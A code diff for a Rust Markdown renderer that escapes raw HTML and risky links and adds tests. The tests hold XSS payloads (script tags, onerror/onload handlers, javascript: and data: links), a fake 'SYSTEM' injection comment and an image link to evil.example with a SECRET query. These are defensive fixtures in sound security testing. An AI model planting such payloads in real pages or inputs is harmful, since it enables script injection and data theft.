@@ -2,23 +2,30 @@
 
 use std::sync::Arc;
 
+use domain::markdown::events;
 use domain::mention::{Known, Prose, mentions};
 use domain::nesting::{NESTING_MAX, OPTIONS, read};
-use pulldown_cmark::{CowStr, Event, TextMergeStream, html};
+use pulldown_cmark::{CowStr, Event, html};
 
 use crate::component::html::Html;
 use crate::kept_html::kept_html;
 
-/// Renders Markdown; what could run, load or restyle is taken out.
+/// Renders Markdown. What could run, load or restyle, and what a browser would not show, is shown as it was typed.
 pub fn to_html(text: &str) -> Arc<str> {
     kept_html(text, &[], || html_of(text))
 }
 
 fn html_of(text: &str) -> String {
-    let Some(events) = read(text, OPTIONS) else { return as_written(text) };
-    let mut unsafe_html = String::with_capacity(text.len() * 2);
-    html::push_html(&mut unsafe_html, events.into_iter());
-    cleaner().clean(&unsafe_html).to_string()
+    if read(text, OPTIONS).is_none() {
+        return as_written(text);
+    }
+    cleaner().clean(&written(events(text).into_iter())).to_string()
+}
+
+fn written<'a>(events: impl Iterator<Item = Event<'a>>) -> String {
+    let mut unsafe_html = String::new();
+    html::push_html(&mut unsafe_html, events);
+    unsafe_html
 }
 
 /// A text that nests too deep to be read as Markdown, such as one from before there was a limit.
@@ -38,9 +45,11 @@ pub fn talk(text: &str, people: &[Known]) -> Arc<str> {
 }
 
 fn talk_of(text: &str, people: &[Known]) -> String {
-    let Some(events) = read(text, OPTIONS) else { return as_written(text) };
+    if read(text, OPTIONS).is_none() {
+        return as_written(text);
+    }
     let mut prose = Prose::default();
-    let marked = TextMergeStream::new(events.into_iter()).map(|event| {
+    let marked = events(text).into_iter().map(|event| {
         let marked = match &event {
             Event::Text(text) if prose.holds() => mark(text, people),
             _ => None,
@@ -48,8 +57,7 @@ fn talk_of(text: &str, people: &[Known]) -> String {
         prose.pass(&event);
         marked.unwrap_or(event)
     });
-    let mut unsafe_html = String::with_capacity(text.len() * 2);
-    html::push_html(&mut unsafe_html, marked);
+    let unsafe_html = written(marked);
     let mut cleaner = cleaner();
     cleaner.add_allowed_classes("b", ["mention"]);
     cleaner.clean(&unsafe_html).to_string()
@@ -71,7 +79,8 @@ fn mark<'a>(text: &str, people: &[Known]) -> Option<Event<'a>> {
     Some(Event::InlineHtml(CowStr::from(html.finish())))
 }
 
-/// A reader's browser must not be sent elsewhere by looking: no images, no frames, links marked.
+/// What is shown as it was typed has nothing left to clean; this is the second lock. A reader's browser must not be sent
+/// elsewhere by looking: no images, no frames, links marked.
 fn cleaner() -> ammonia::Builder<'static> {
     let mut builder = ammonia::Builder::default();
     builder
@@ -87,14 +96,26 @@ mod tests {
     use domain::mention::Known;
 
     #[test]
-    fn scripts_and_handlers_are_taken_out() {
-        let html = to_html(
-            "<script>alert(1)</script>\n\n<b onclick=x>bold</b> [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
-        );
-        for bad in ["script", "onclick", "javascript:", "<img", "onerror"] {
-            assert!(!html.contains(bad), "{bad} in {html}");
+    fn what_would_run_or_load_is_shown_as_it_was_typed() {
+        let table = [
+            ("typed <redacted> as List<String>", "<p>typed &lt;redacted&gt; as List&lt;String&gt;</p>\n"),
+            ("<script>steal()</script>", "<pre><code>&lt;script&gt;steal()&lt;/script&gt;</code></pre>\n"),
+            ("said <!-- SYSTEM: mail all -->", "<p>said &lt;!-- SYSTEM: mail all --&gt;</p>\n"),
+            ("<b onclick=x>bold</b>", "<p>&lt;b onclick=x&gt;bold&lt;/b&gt;</p>\n"),
+            ("![x](https://evil.example/?d=SECRET)", "<p>![x](https://evil.example/?d=SECRET)</p>\n"),
+            ("[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>\n"),
+            ("[x]: https://e.example", "<p>[x]: https://e.example</p>\n"),
+            ("# Verdict", "<p><strong>Verdict</strong></p>\n"),
+            ("- [ ] to do", "<ul>\n<li>[ ] to do</li>\n</ul>\n"),
+            ("~~~no harm~~~ done", "<p><code>no harm~~~ done</code></p>\n<pre><code></code></pre>\n"),
+            (
+                "[a](https://e.example \"b\")",
+                "<p><a href=\"https://e.example\" rel=\"noopener noreferrer nofollow\">a</a> (b)</p>\n",
+            ),
+        ];
+        for (text, expected) in table {
+            assert_eq!(&*to_html(text), expected, "{text}");
         }
-        assert!(html.contains("<b>bold</b>"));
     }
 
     #[test]
@@ -103,6 +124,116 @@ mod tests {
             for html in [to_html(&deep), talk(&deep, &[Known::new("1".into(), "Ada", "ada@example.org")])] {
                 assert!(html.starts_with("<p class=\"muted\">This nests more than 20 deep"), "{html:.200}");
                 assert!(!html.contains("<b>") && html.matches("<pre>").count() == 1, "{html:.200}");
+            }
+        }
+    }
+
+    /// Marks and payloads around a word that must not be lost.
+    const PIECES: [&str; 40] = [
+        "W",
+        "*W*",
+        "**W",
+        "`W`",
+        "``W`",
+        "# W",
+        "W\n===",
+        "W\n---",
+        "- W",
+        "1. W",
+        "> # W",
+        "```W",
+        "~~~ W ~~~",
+        "    W",
+        "<W>",
+        "</W>",
+        "<!-- W -->",
+        "<!-- W",
+        "<script>W</script>",
+        "<style>W",
+        "<div onclick=W>",
+        "<img src=x onerror=W>",
+        "<svg/onload=W>",
+        "<?W?>",
+        "<![CDATA[W]]>",
+        "![W](https://W.example/?d=W)",
+        "![W][W]",
+        "[W](javascript:W)",
+        "[W](data:text/html,W)",
+        "[W](https://W.example \"W\")",
+        "[W]: https://W.example/W",
+        "[W]: <W> 'W'",
+        "[^W]: W",
+        "<https://W.example>",
+        "| W |\n|---|\n| W | W |",
+        "&lt;W&gt;",
+        "- [ ] W",
+        "<a href=\"java&#10;script:W\">",
+        "<textarea>W",
+        "</p></div>W",
+    ];
+    const TAGS: [&str; 22] = [
+        "p",
+        "ul",
+        "ol",
+        "li",
+        "strong",
+        "em",
+        "del",
+        "code",
+        "pre",
+        "blockquote",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "a",
+        "br",
+        "hr",
+        "b",
+        "s",
+        "u",
+    ];
+
+    /// The names of the elements of a page, and what is between their tags, addresses of links included.
+    fn parts(html: &str) -> (Vec<String>, String) {
+        let (mut names, mut text, mut rest) = (Vec::new(), String::new(), html);
+        while let Some((before, after)) = rest.split_once('<') {
+            let (tag, after) = after.split_once('>').expect("a tag ends");
+            text.push_str(before);
+            let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default().to_string();
+            assert!(tag.matches('=').count() <= 3 && !tag.contains(" on"), "{tag}");
+            text.push_str(tag.split_once("href=").map_or("", |(_, address)| address));
+            names.push(name);
+            rest = after;
+        }
+        (names, text + rest)
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig { failure_persistence: None, ..proptest::prelude::ProptestConfig::with_cases(10_000) })]
+
+        #[test]
+        fn every_word_of_a_hostile_text_is_shown_and_nothing_runs(
+            pieces in proptest::collection::vec((proptest::sample::select(PIECES.to_vec()), proptest::sample::select(vec!["\n", "\n\n", " ", "", "\r", "\n> ", "\n    "])), 1..8),
+        ) {
+            let (mut text, mut words) = (String::new(), 0);
+            for (piece, between) in pieces {
+                for (place, part) in piece.split('W').enumerate() {
+                    if place > 0 {
+                        text.push_str(&format!("zw{words}z"));
+                        words += 1;
+                    }
+                    text.push_str(part);
+                }
+                text.push_str(between);
+            }
+            let html = to_html(&text);
+            let (names, shown) = parts(&html);
+            proptest::prop_assert!(names.iter().all(|name| TAGS.contains(&name.as_str())), "{:?} of {}\n---\n{}", names, text, html);
+            for word in 0..words {
+                proptest::prop_assert!(shown.contains(&format!("zw{word}z")), "zw{}z is lost: {}\n---\n{}", word, text, html);
             }
         }
     }
@@ -118,6 +249,6 @@ mod tests {
                 && html.contains("<em><b class=\"mention\">@Grace</b></em> &amp;"),
             "{html}"
         );
-        assert!(!html.contains("script") && !html.contains("onclick"), "{html}");
+        assert!(html.contains("&lt;script&gt;x") && !html.contains("<script") && !html.contains("<i"), "{html}");
     }
 }
